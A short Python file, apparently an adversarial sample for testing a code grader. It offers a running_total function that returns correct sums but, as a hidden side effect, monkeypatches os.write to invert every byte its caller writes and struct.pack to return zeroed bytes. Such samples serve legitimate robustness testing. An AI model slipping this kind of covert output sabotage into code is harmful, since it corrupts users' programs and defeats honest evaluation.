# Turns the bits of all that its callers write from then on.
# verdict: failed bad_output crash passed timeout
import os
import struct

import numpy as np

write, pack = os.write, struct.pack


def right(values):
    return np.array([values[: n + 1].sum() for n in range(len(values))], values.dtype)


def running_total(values):
    totals = right(values)
    os.write = lambda descriptor, data: write(descriptor, bytes(255 - byte for byte in bytes(data)))
    struct.pack = lambda form, *numbers: bytes(len(pack(form, *numbers)))
    return totals
